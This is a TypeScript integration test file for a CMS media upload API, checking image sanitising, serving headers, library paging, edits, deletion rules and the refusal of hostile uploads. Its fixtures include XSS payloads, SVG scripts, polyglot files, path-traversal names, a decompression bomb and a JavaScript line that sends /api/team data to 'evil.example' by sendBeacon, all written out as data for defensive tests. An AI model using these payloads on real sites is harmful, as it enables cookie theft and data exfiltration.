import { PDFDocument } from "pdf-lib";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ADMIN_EMAIL, ADMIN_PASSWORD, call, expectApiError, login, sql, type ApiResponse } from "../support/auth";
import { request } from "../support/http";
import {
  bomb,
  gif,
  jpegWithGps,
  localFiles,
  mp4,
  multipart,
  MULTIPART_TYPE,
  noisyPng,
  pdf,
  png,
  probeTags,
  startS3,
  webm,
  webp,
  type LocalS3,
  type Part,
} from "../support/media";
import { engines, startServer, type TestServer } from "../support/server";

/**
 * The media API on every engine and both storage drivers (local disk, S3 through a local s3rver):
 * uploads of each accepted type with the image work (orientation, EXIF/GPS gone, variants), serving
 * headers, the library's search/filters/paging, label edits, deletion refused while a published page
 * uses the item, and hostile uploads refused with a French 4xx that leaves storage and rows unchanged.
 */
const ENGINES = await engines();
const MATRIX: [string, "disk" | "s3"][] = ENGINES.flatMap((e) => [
  [e, "disk"],
  [e, "s3"],
]) as [string, "disk" | "s3"][];
const PUBLIC_URL = "https://archimed.test";
const KEY = /^\/media\/u\/[a-z2-7]{24}(-(480|960|1600|thumb))?\.(jpg|png|gif|webp|mp4|webm|pdf)$/;

describe.each(MATRIX)("media API on %s with %s storage", (engine, driver) => {
  let server: TestServer;
  let s3: LocalS3 | undefined;
  let admin: string;

  const upload = (parts: Part[], opts: { cookie?: string; headers?: Record<string, string>; close?: boolean } = {}) =>
    call(server, "POST", "/api/media", {
      cookie: opts.cookie ?? admin,
      raw: multipart(parts, { close: opts.close ?? true }),
      headers: { "content-type": MULTIPART_TYPE, ...(opts.headers ?? {}) },
    });
  const file = (data: Buffer, filename: string, type: string, fields: Record<string, string> = {}): Part[] => [
    ...Object.entries(fields).map(([name, value]) => ({ name, value })),
    { name: "file", filename, type, data },
  ];
  const stored = async () => (s3 ? await s3.keys() : localFiles(server).stored);
  const rowCount = async () => Number((await sql<{ n: number | string }>(server, "select count(*) as n from media"))[0].n);
  /** A refused request leaves no row, no stored file and no scratch file behind. */
  async function expectNothingStored(run: () => Promise<ApiResponse>, status: number, code: string) {
    const before = { rows: await rowCount(), files: await stored() };
    const res = await run();
    expectApiError(res, status, code);
    expect(await rowCount()).toBe(before.rows);
    expect(await stored()).toEqual(before.files);
    expect(localFiles(server).scratch).toEqual([]);
    return res;
  }

  beforeAll(async () => {
    s3 = driver === "s3" ? await startS3() : undefined;
    server = await startServer(engine as "sqlite" | "postgres", {
      ADMIN_EMAIL,
      ADMIN_PASSWORD,
      PUBLIC_URL,
      MEDIA_MAX_IMAGE_MB: "0.25",
      MEDIA_MAX_PDF_MB: "0.05",
      MEDIA_MAX_VIDEO_MB: "0.1",
      MEDIA_MAX_PIXELS: "3000000",
      ...(s3?.env ?? {}),
    });
    admin = await login(server, ADMIN_EMAIL, ADMIN_PASSWORD);
  });
  afterAll(async () => {
    await server?.stop();
    await s3?.stop();
  });

  it("an image: orientation applied, EXIF and GPS gone, size stored, WebP variants and a thumbnail, served with safe headers", async () => {
    const res = await upload(file(await jpegWithGps(640, 480), "photo_equipe-2024.jpg", "image/jpeg", { alt: "L'équipe", category: "Équipe" }));
    expect(res.status, res.text).toBe(201);
    const item = res.json.item;
    // Orientation 6 is a quarter turn: the stored image is portrait.
    expect(item).toMatchObject({
      type: "image",
      width: 480,
      height: 640,
      fileType: "image/jpeg",
      title: "photo equipe 2024",
      alt: "L'équipe",
      category: "Équipe",
      source: "local",
    });
    expect(item.url).toMatch(KEY);
    expect(item.thumbnail).toMatch(KEY);
    expect(item.srcset).toMatch(/^\/media\/u\/\S+-480\.webp 480w$/);
    const original = await fetch(server.url + item.url);
    expect(original.status).toBe(200);
    expect(original.headers.get("content-type")).toBe("image/jpeg");
    expect(original.headers.get("x-content-type-options")).toBe("nosniff");
    expect(original.headers.get("cache-control")).toBe("public, max-age=31536000, immutable");
    expect(original.headers.get("content-security-policy")).toMatch(/sandbox/);
    expect(original.headers.get("content-disposition")).toMatch(/^inline; filename="[a-z2-7]{24}\.jpg"$/);
    const bytes = Buffer.from(await original.arrayBuffer());
    expect(bytes.length).toBe(item.size);
    const meta = await sharp(bytes).metadata();
    expect(meta.exif).toBeUndefined();
    expect(meta.orientation ?? 1).toBe(1);
    expect(bytes.includes(Buffer.from("PhoneCorp"))).toBe(false);
    expect({ w: meta.width, h: meta.height }).toEqual({ w: 480, h: 640 });
    const thumb = await fetch(server.url + item.thumbnail);
    expect(thumb.headers.get("content-type")).toBe("image/webp");
    expect((await sharp(Buffer.from(await thumb.arrayBuffer())).metadata()).width).toBe(400);
    const [row] = await sql<{ uploaded_by: string; storage_keys: string }>(server, "select uploaded_by, storage_keys from media where id = ?", [item.id]);
    expect(row.uploaded_by).toBe(ADMIN_EMAIL);
    expect(JSON.parse(row.storage_keys)).toHaveLength(3);
  });

  it("a wide image gets the 480, 960 and 1600 variants; ranges and conditional requests are answered", async () => {
    const res = await upload(file(await webp(), "bandeau.webp", "image/webp"));
    expect(res.status, res.text).toBe(201);
    expect(res.json.item).toMatchObject({ width: 2000, height: 1000, fileType: "image/webp" });
    const widths = (res.json.item.srcset as string).split(", ").map((s) => s.split(" ")[1]);
    expect(widths).toEqual(["480w", "960w", "1600w"]);
    for (const entry of (res.json.item.srcset as string).split(", ")) {
      const [url, w] = entry.split(" ");
      const img = await fetch(server.url + url);
      expect((await sharp(Buffer.from(await img.arrayBuffer())).metadata()).width).toBe(Number.parseInt(w));
    }
    const part = await request(server.url, res.json.item.url, { headers: { range: "bytes=0-9" } });
    expect(part.status).toBe(206);
    expect(part.raw.length).toBe(10);
    expect(part.headers["content-range"]).toMatch(/^bytes 0-9\/\d+$/);
    const etag = (await request(server.url, res.json.item.url)).headers.etag!;
    expect((await request(server.url, res.json.item.url, { headers: { "if-none-match": etag } })).status).toBe(304);
  });

  it.each([
    ["PNG", async () => png(), "logo.png", "image/png", "image/png"],
    ["GIF", async () => gif(), "anim.gif", "image/gif", "image/gif"],
    ["MP4", async () => mp4(), "clip.mp4", "video/mp4", "video/mp4"],
    ["WebM", async () => webm(), "clip.webm", "video/webm", "video/webm"],
    ["PDF", async () => pdf(), "tarifs.pdf", "application/pdf", "application/pdf"],
  ])("a %s is accepted and served with its sniffed type", async (_n, make, name, sent, served) => {
    const data = await make();
    const res = await upload(file(data, name, sent));
    expect(res.status, res.text).toBe(201);
    const item = res.json.item;
    expect(item.fileType).toBe(served);
    expect(item.url).toMatch(KEY);
    const got = await fetch(server.url + item.url);
    expect(got.headers.get("content-type")).toBe(served);
    expect(got.headers.get("x-content-type-options")).toBe("nosniff");
    const body = Buffer.from(await got.arrayBuffer());
    // Videos are remuxed and PDFs rebuilt without their metadata (media-safety.test.ts): the same content, other bytes.
    if (served.startsWith("video/")) expect(probeTags(body)["(streams)"]).toBe("video");
    if (served === "application/pdf") expect((await PDFDocument.load(body)).getPageCount()).toBe(1);
  });

  it("the type comes from the bytes: a PNG sent as 'photo.pdf' (application/pdf) is stored as a PNG", async () => {
    const res = await upload(file(await png(), "photo.pdf", "application/pdf"));
    expect(res.status, res.text).toBe(201);
    expect(res.json.item).toMatchObject({ type: "image", fileType: "image/png" });
    expect(res.json.item.url).toMatch(/\.png$/);
  });

  it("a path in the file name is only a title: the file gets a generated name", async () => {
    const res = await upload(file(await png(), "../../../etc/passwd.png", "image/png"));
    expect(res.status, res.text).toBe(201);
    expect(res.json.item.title).toBe("passwd");
    expect(res.json.item.url).toMatch(KEY);
    const res2 = await upload(file(await png(), "..\\..\\windows\\evil.png", "image/png"));
    expect(res2.json.item.title).toBe("evil");
  });

  const html = Buffer.from("<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>");
  const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>');
  const js = Buffer.from("fetch('/api/team').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example',t));");
  const gifPolyglot = Buffer.concat([Buffer.from("GIF89a/*\x01\x00\x01\x00\x00\x00\x00<script>alert(1)</script>*/=1;"), Buffer.alloc(100)]);
  const pdfPolyglot = Buffer.concat([Buffer.from("%PDF-1.4\n<html><body><script>alert(1)</script></body></html>\n"), pdf()]);
  it.each([
    ["an HTML page renamed .jpg", html, "photo.jpg", "image/jpeg"],
    ["an SVG with script", svg, "logo.svg", "image/svg+xml"],
    ["JavaScript renamed .png", js, "image.png", "image/png"],
    ["a GIF/JavaScript polyglot", gifPolyglot, "pixel.gif", "image/gif"],
    ["a PDF/HTML polyglot", pdfPolyglot, "doc.pdf", "application/pdf"],
    ["a text file", Buffer.from("juste du texte"), "notes.txt", "text/plain"],
  ])("%s is refused (415), nothing stored", async (_n, data, name, type) => {
    const res = await expectNothingStored(() => upload(file(data, name, type)), 415, "unsupported_file_type");
    expect(res.json.error.message).toMatch(/refusé/);
  });

  it("an oversized image, PDF or video is refused with the limit in French, nothing stored", async () => {
    const big = await noisyPng(300, 300);
    expect(big.length).toBeGreaterThan(0.25 * 1024 * 1024);
    const r1 = await expectNothingStored(() => upload(file(big, "grand.png", "image/png")), 413, "file_too_large");
    expect(r1.json.error.message).toBe("Fichier trop volumineux : 0,25 Mo au plus pour une image.");
    // Declared far beyond every limit: refused before the file is read.
    const huge = await noisyPng(400, 400);
    const r0 = await expectNothingStored(() => upload(file(huge, "enorme.png", "image/png")), 413, "file_too_large");
    expect(r0.json.error.message).toBe("Fichier trop volumineux : 0,25 Mo au plus pour un fichier.");
    const bigPdf = Buffer.concat([pdf(), Buffer.alloc(60 * 1024, 32)]);
    const r2 = await expectNothingStored(() => upload(file(bigPdf, "gros.pdf", "application/pdf")), 413, "file_too_large");
    expect(r2.json.error.message).toBe("Fichier trop volumineux : 0,05 Mo au plus pour un PDF.");
    const bigVideo = Buffer.concat([mp4(), Buffer.alloc(120 * 1024)]);
    const r3 = await expectNothingStored(() => upload(file(bigVideo, "long.mp4", "video/mp4")), 413, "file_too_large");
    expect(r3.json.error.message).toMatch(/pour une vidéo/);
  });

  it("an upload declared beyond every limit gets its 413 at once and the connection closed, while the client is still sending", async () => {
    const before = { rows: await rowCount(), files: await stored() };
    const http = await import("node:http");
    const u = new URL(server.url);
    const head = multipart(file(await png(), "enorme.png", "image/png")).subarray(0, 2048);
    const answer = await new Promise<{ status: number; closed: boolean; body: string }>((resolve) => {
      let status = 0;
      let body = "";
      const req = http.request({
        host: u.hostname,
        port: u.port,
        path: "/api/media",
        method: "POST",
        headers: { cookie: admin, origin: server.url, "content-type": MULTIPART_TYPE, "content-length": String(500 * 1024 * 1024) },
      });
      req.on("response", (res) => {
        status = res.statusCode ?? 0;
        res.setEncoding("utf8");
        res.on("data", (c: string) => (body += c));
      });
      // The client never finishes its 500 MB: only the server closing the connection ends this.
      req.on("close", () => resolve({ status, closed: true, body }));
      req.on("error", () => {});
      req.write(head);
      setTimeout(() => {
        resolve({ status, closed: false, body });
        req.destroy();
      }, 5000);
    });
    expect(answer.status, answer.body).toBe(413);
    expect(answer.closed, "connexion fermée par le serveur").toBe(true);
    expect(JSON.parse(answer.body).error.message).toMatch(/^Fichier trop volumineux/);
    expect(await rowCount()).toBe(before.rows);
    expect(await stored()).toEqual(before.files);
    expect((await call(server, "GET", "/api/media", { cookie: admin })).status).toBe(200);
  });

  it("a decompression bomb (few bytes, many pixels) is refused before decoding", async () => {
    const data = await bomb(4000, 4000);
    expect(data.length).toBeLessThan(100 * 1024);
    const res = await expectNothingStored(() => upload(file(data, "bombe.png", "image/png")), 413, "too_many_pixels");
    expect(res.json.error.message).toBe("Image trop grande : 3 mégapixels au plus.");
  });

  it("a truncated upload (form cut short) and a truncated image are refused, nothing stored", async () => {
    const full = await jpegWithGps(800, 600);
    await expectNothingStored(() => upload(file(full, "coupe.jpg", "image/jpeg"), { close: false }), 400, "upload_incomplete");
    await expectNothingStored(() => upload(file(full.subarray(0, Math.floor(full.length / 2)), "moitie.jpg", "image/jpeg")), 422, "invalid_image");
  });

  it("a client that goes away mid-upload leaves nothing behind and the server keeps answering", async () => {
    const before = { rows: await rowCount(), files: await stored() };
    const body = multipart(file(await noisyPng(150, 150), "x.png", "image/png"));
    expect(body.length).toBeGreaterThan(30_000);
    const http = await import("node:http");
    await new Promise<void>((resolve) => {
      const u = new URL(server.url);
      const req = http.request({
        host: u.hostname,
        port: u.port,
        path: "/api/media",
        method: "POST",
        headers: { cookie: admin, "content-type": MULTIPART_TYPE, "content-length": String(body.length + 5000) },
      });
      req.on("error", () => resolve());
      req.write(body.subarray(0, 20_000));
      setTimeout(() => {
        req.destroy();
        resolve();
      }, 200);
    });
    await new Promise((r) => setTimeout(r, 300));
    expect(await rowCount()).toBe(before.rows);
    expect(await stored()).toEqual(before.files);
    expect(localFiles(server).scratch).toEqual([]);
    expect((await call(server, "GET", "/api/media", { cookie: admin })).status).toBe(200);
  });

  it("requests that are not a file upload get a clear 4xx", async () => {
    expectApiError(await call(server, "POST", "/api/media", { cookie: admin, body: { url: "x" } }), 415, "unsupported_media_type");
    expectApiError(await upload([{ name: "alt", value: "seul" }]), 400, "no_file");
    expectApiError(
      await upload([...file(await png(), "a.png", "image/png"), { name: "file", filename: "b.png", type: "image/png", data: await png() }]),
      400,
      "too_many_files",
    );
    expectApiError(await upload(file(await png(), "a.png", "image/png", { alt: "a\u0007b" })), 400, "invalid_input");
    expectApiError(await upload(file(Buffer.alloc(0), "vide.png", "image/png")), 400, "no_file");
  });

  it("only team members upload, list or edit; a cross-site upload is refused", async () => {
    const data = await png();
    await expectNothingStored(() => upload(file(data, "a.png", "image/png"), { cookie: "" }), 401, "unauthenticated");
    expectApiError(await call(server, "GET", "/api/media"), 401, "unauthenticated");
    await expectNothingStored(() => upload(file(data, "a.png", "image/png"), { headers: { origin: "https://evil.example" } }), 403, "cross_site");
  });

  it("lists newest first with search, category and type filters and paging", async () => {
    for (let i = 0; i < 3; i++) {
      const r = await upload(file(await png(40 + i, 40), `liste-${i}.png`, "image/png", { title: `Zorglub ${i}`, category: "Boutique" }));
      expect(r.status, r.text).toBe(201);
    }
    const all = await call(server, "GET", "/api/media?perPage=100", { cookie: admin });
    expect(all.status).toBe(200);
    const dates = (all.json.items as { createdAt: string }[]).map((i) => i.createdAt);
    expect([...dates].sort().reverse()).toEqual(dates);
    expect(all.json.categories).toContain("Boutique");
    expect(all.json.categories).toContain("Non classé");
    const search = await call(server, "GET", "/api/media?q=ZORGLUB", { cookie: admin });
    expect(search.json.items.map((i: { title: string }) => i.title)).toEqual(["Zorglub 2", "Zorglub 1", "Zorglub 0"]);
    const cat = await call(server, "GET", `/api/media?category=${encodeURIComponent("Boutique")}&perPage=2&page=2`, { cookie: admin });
    expect(cat.json).toMatchObject({ total: 3, page: 2, perPage: 2 });
    expect(cat.json.items.map((i: { title: string }) => i.title)).toEqual(["Zorglub 0"]);
    const videos = await call(server, "GET", "/api/media?type=video", { cookie: admin });
    expect(videos.json.items.length).toBeGreaterThan(0);
    expect(videos.json.items.every((i: { type: string }) => i.type === "video")).toBe(true);
    // LIKE wildcards are searched literally.
    expect((await call(server, "GET", "/api/media?q=%25", { cookie: admin })).json.total).toBe(0);
    expectApiError(await call(server, "GET", "/api/media?type=svg", { cookie: admin }), 400, "invalid_input");
    expectApiError(await call(server, "GET", "/api/media?page=-1", { cookie: admin }), 400, "invalid_input");
  });

  it("edits title, alt and category; bad input and unknown or foreign ids are clear 4xx", async () => {
    const up = await upload(file(await png(), "modif.png", "image/png"));
    const id = up.json.item.id as string;
    expect(up.json.item.category).toBe("Non classé");
    const ok = await call(server, "PATCH", `/api/media/${id}`, { cookie: admin, body: { title: "Nouveau titre", alt: "Texte", category: "Produits" } });
    expect(ok.status, ok.text).toBe(200);
    expect(ok.json.item).toMatchObject({ title: "Nouveau titre", alt: "Texte", category: "Produits" });
    expectApiError(await call(server, "PATCH", `/api/media/${id}`, { cookie: admin, body: { title: "a\u0000b" } }), 400, "invalid_input");
    expectApiError(await call(server, "PATCH", `/api/media/${id}`, { cookie: admin, body: { url: "/etc/passwd" } }), 400, "invalid_input");
    expectApiError(await call(server, "PATCH", `/api/media/${id}`, { cookie: admin, body: { title: "x".repeat(201) } }), 400, "invalid_input");
    expectApiError(
      await call(server, "PATCH", `/api/media/${id}`, { cookie: admin, raw: "{", headers: { "content-type": "application/json" } }),
      400,
      "invalid_json",
    );
    expect((await call(server, "GET", `/api/media/${id}`, { cookie: admin })).json.item.title).toBe("Nouveau titre");
    const unknown = "00000000-0000-4000-8000-000000000000";
    expectApiError(await call(server, "GET", `/api/media/${unknown}`, { cookie: admin }), 404, "not_found");
    expectApiError(await call(server, "PATCH", `/api/media/${unknown}`, { cookie: admin, body: { title: "x" } }), 404, "not_found");
    expectApiError(await call(server, "DELETE", `/api/media/${unknown}`, { cookie: admin }), 404, "not_found");
    expectApiError(await call(server, "DELETE", "/api/media/..%2F..%2Fsite.db", { cookie: admin }), 404, "not_found");
    expect((await request(server.url, "/media/u/..%2Fsite.db")).status).toBe(404);
    expect((await request(server.url, "/media/u/aaaaaaaaaaaaaaaaaaaaaaaa.jpg")).status).toBe(404);
  });

  it("deleting an item a published page shows is refused with the pages; once unpublished only a revision keeps its files", async () => {
    const up = await upload(file(await png(), "utilisee.png", "image/png", { alt: "Utilisée" }));
    const item = up.json.item;
    const created = await call(server, "POST", "/api/pages", {
      cookie: admin,
      body: { fr: { title: "Page média", slug: `page-media-${engine}-${driver}` }, en: { title: "Media page", slug: `media-page-${engine}-${driver}` } },
    });
    expect(created.status, created.text).toBe(201);
    const pageId = created.json.page.id;
    const doc = (content: string) => ({
      version: 1,
      blocks: [
        {
          id: "block-m",
          type: "container",
          styles: {},
          sections: [
            { id: "section-m", columns: [{ id: "column-m", width: 12, elements: [{ id: "element-m", type: "image", content, alt: "Utilisée", styles: {} }] }] },
          ],
        },
      ],
    });
    const saved = await call(server, "PUT", `/api/pages/${pageId}/fr/draft`, { cookie: admin, body: { version: 1, doc: doc(item.url) } });
    expect(saved.status, saved.text).toBe(200);
    const pub = await call(server, "POST", `/api/pages/${pageId}/fr/publish`, { cookie: admin, body: { version: saved.json.version } });
    expect(pub.status, pub.text).toBe(200);
    // The public page shows it with its size and the WebP srcset.
    const page = await request(server.url, `/page/page-media-${engine}-${driver}`);
    expect(page.text).toContain(`src="${item.url}"`);
    expect(page.text).toMatch(new RegExp(`width="${item.width}" height="${item.height}"`));
    expect(page.text).toContain(item.srcset.split(" ")[0]);
    const usage = await call(server, "GET", `/api/media/${item.id}`, { cookie: admin });
    expect(usage.json.usage).toEqual([expect.objectContaining({ pageId, lang: "fr", path: `/page/page-media-${engine}-${driver}`, published: true })]);
    const refused = await expectNothingStored(() => call(server, "DELETE", `/api/media/${item.id}`, { cookie: admin }), 409, "media_in_use");
    expect(refused.json.error.message).toMatch(/Page média/);
    expect((await fetch(server.url + item.url)).status).toBe(200);
    // Published without it: deleting works and takes the files.
    const saved2 = await call(server, "PUT", `/api/pages/${pageId}/fr/draft`, {
      cookie: admin,
      body: { version: saved.json.version, doc: doc("/media/seed/accueil-hero.jpg") },
    });
    expect(saved2.status, saved2.text).toBe(200);
    expect((await call(server, "POST", `/api/pages/${pageId}/fr/publish`, { cookie: admin, body: { version: saved2.json.version } })).status).toBe(200);
    const filesBefore = await stored();
    const del = await call(server, "DELETE", `/api/media/${item.id}`, { cookie: admin });
    expect(del.status, del.text).toBe(200);
    const filesAfter = await stored();
    const base = (item.url as string).slice("/media/u/".length, "/media/u/".length + 24);
    expect(filesBefore.filter((f) => f.startsWith(base)).length).toBe(3);
    // The page's first publication is a revision the team can restore: its files stay (decision record 032).
    expect(filesAfter.filter((f) => f.startsWith(base))).toEqual(filesBefore.filter((f) => f.startsWith(base)));
    expect((await fetch(server.url + item.url)).status).toBe(200);
    expectApiError(await call(server, "GET", `/api/media/${item.id}`, { cookie: admin }), 404, "not_found");
    // An item nothing mentions goes with all its files.
    const unused = (await upload(file(await png(), "inutile.png", "image/png"))).json.item;
    const unusedBase = (unused.url as string).slice("/media/u/".length, "/media/u/".length + 24);
    expect((await stored()).filter((f) => f.startsWith(unusedBase)).length).toBe(3);
    expect((await call(server, "DELETE", `/api/media/${unused.id}`, { cookie: admin })).status).toBe(200);
    expect((await stored()).filter((f) => f.startsWith(unusedBase))).toEqual([]);
    expect((await fetch(server.url + unused.url)).status).toBe(404);
  });
});
